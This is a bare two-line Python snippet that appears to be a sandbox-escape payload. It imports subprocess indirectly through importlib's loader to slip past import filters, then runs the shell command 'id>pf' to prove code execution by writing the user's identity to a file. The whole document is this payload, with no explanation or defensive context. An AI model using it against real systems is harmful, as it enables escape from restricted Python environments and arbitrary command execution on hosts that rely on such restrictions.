import importlib.util
importlib.util.find_spec("subprocess").loader.load_module("subprocess").getoutput("id>pf")
